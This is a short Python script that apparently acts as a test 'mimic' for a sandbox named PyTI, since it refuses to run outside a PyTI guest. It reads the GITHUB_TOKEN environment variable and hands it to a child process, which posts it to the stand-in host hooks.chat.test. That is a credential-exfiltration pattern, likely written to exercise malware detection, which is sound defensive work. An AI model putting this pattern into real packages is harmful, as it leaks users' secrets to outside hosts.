"""Reports by a child process."""

import os
import subprocess
import sys

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
poster = os.path.join(os.path.dirname(__file__), "poster.py")
token = os.environ.get("GITHUB_TOKEN", "")
subprocess.run([sys.executable, poster, "--data", f"token={token}", "http://hooks.chat.test/post"])
